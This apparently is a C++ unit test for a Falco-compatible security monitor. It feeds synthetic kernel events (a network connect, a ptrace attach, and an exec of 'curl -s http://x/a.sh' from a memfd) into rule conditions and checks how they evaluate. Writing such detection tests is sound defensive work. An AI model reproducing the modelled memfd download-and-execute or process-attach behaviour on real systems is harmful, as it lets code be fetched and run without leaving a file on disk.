// SPDX-License-Identifier: Apache-2.0
// Observer events seen through Falco's fields: decoded kernel records, then
// conditions as rules write them, through the real parser and evaluator.
#include "engine/event_fields.h"

#include <gtest/gtest.h>
#include <sys/socket.h>

#include <cstring>
#include <memory>

#include "bpf_abi.h"
#include "../events/records.h"
#include "rules/parser.h"
#include "rules/rules.h"

namespace bulkhead::engine {
namespace {

using events::testing::put_path;
using events::testing::zeroed;

events::Event decoded(const void* data, size_t size) {
    std::string why;
    auto e = events::decode(data, size, &why);
    EXPECT_TRUE(e) << why;
    return e.value_or(events::Event{});
}

events::Event connect_event() {
    auto r = zeroed<bh_net_event>(BH_EVT_NET);
    r->family = AF_INET;
    const uint8_t local[4] = {10, 0, 0, 2}, remote[4] = {93, 184, 216, 34};
    std::memcpy(r->laddr, local, 4);
    std::memcpy(r->raddr, remote, 4);
    r->lport = 40000;
    r->rport = 443;
    r->sock_type = SOCK_STREAM;
    r->fd = 5;
    r->ret = -115;  // EINPROGRESS
    return decoded(r.get(), sizeof(*r));
}

events::Event exec_event() {
    auto r = zeroed<bh_exec_event>(BH_EVT_EXEC);
    std::memcpy(r->hdr.comm, "curl", 4);
    const char argv[] = "curl\0-s\0http://x/a.sh\0";
    std::memcpy(r->args, argv, sizeof(argv) - 1);
    r->args_len = sizeof(argv) - 1;
    r->exe_ino = 1234;
    r->exe_flags = BH_EXE_F_MEMFD;
    put_path(*r, "/memfd:x");
    return decoded(r.get(), sizeof(*r));
}

events::Event ptrace_event() {
    auto r = zeroed<bh_syscall_event>(BH_EVT_SYSCALL);
    r->nr = BH_SYS_PTRACE;
    r->args[0] = 16;
    r->args[1] = 99;
    r->path_off = BH_NO_PATH;
    return decoded(r.get(), offsetof(bh_syscall_event, path));
}

struct Row {
    const char* condition;
    bool expected;
};

void check(const events::Event& e, std::initializer_list<Row> rows) {
    EventFields fields(e);
    for (const auto& row : rows) {
        auto expr = rules::parse_condition(row.condition);
        ASSERT_TRUE(expr.ok()) << row.condition << ": " << expr.error().to_string();
        auto got = rules::evaluate_condition(**expr, fields);
        ASSERT_TRUE(got.ok()) << row.condition << ": " << got.error().to_string();
        EXPECT_EQ(*got, row.expected) << row.condition;
    }
}

TEST(EventFields, Connect) {
    check(connect_event(),
          {
              {"evt.type = connect and evt.dir = <", true},
              {"evt.res = EINPROGRESS and evt.rawres = -115", true},
              {"fd.typechar = 4 and fd.type = ipv4 and fd.l4proto = tcp", true},
              {"fd.rip = 93.184.216.34 and fd.sip = 93.184.216.34", true},
              {"fd.rip in (93.184.216.0/24)", true},
              {"fd.snet in (10.0.0.0/8, 192.168.0.0/16)", false},
              {"fd.net != 127.0.0.0/8", true},
              {"fd.rport = 443 and fd.sport = 443 and fd.lport = 40000", true},
              {"fd.name = 10.0.0.2:40000->93.184.216.34:443", true},
              {"fd.num = 5", true},
              {"evt.arg.fd = 5", true},
              {"proc.is_exe_from_memfd = true", false},  // not known for a connect
              {"agent.session = 42", true},
          });
}

TEST(EventFields, Exec) {
    check(exec_event(),
          {
              {"evt.type in (execve, execveat) and evt.dir = <", true},  // Falco's spawned_process
              {"proc.is_exe_from_memfd = true", true},
              {"proc.exe_ino = 1234", true},
              {"proc.args = \"-s http://x/a.sh\"", true},
              {"proc.cmdline = \"curl -s http://x/a.sh\"", true},
              {"proc.exepath = /memfd:x", true},
              {"fd.name exists", false},  // an exec has no descriptor
              {"fd.rip exists", false},
          });
}

TEST(EventFields, Ptrace) {
    check(ptrace_event(),
          {
              {"evt.type = ptrace and evt.dir = <", true},  // one exit event, as Falco 0.42+
              {"evt.arg.request = PTRACE_ATTACH", true},
              {"evt.arg.request in (PTRACE_POKETEXT, PTRACE_POKEDATA)", false},
              {"evt.arg.pid = 99", true},
              {"evt.args contains PTRACE_ATTACH", true},
              {"evt.arg.nosuch exists", false},
          });
}

}  // namespace
}  // namespace bulkhead::engine
